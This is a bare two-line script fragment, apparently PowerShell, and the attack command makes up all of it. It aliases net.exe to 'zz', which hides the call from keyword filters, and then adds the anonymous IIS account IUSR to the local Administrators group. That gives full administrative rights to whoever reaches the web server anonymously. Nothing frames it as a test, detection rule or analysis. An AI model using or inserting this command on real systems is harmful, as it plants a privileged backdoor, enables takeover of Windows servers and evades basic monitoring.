${alias:zz} = 'net.exe'
zz localgroup Administrators IUSR /add
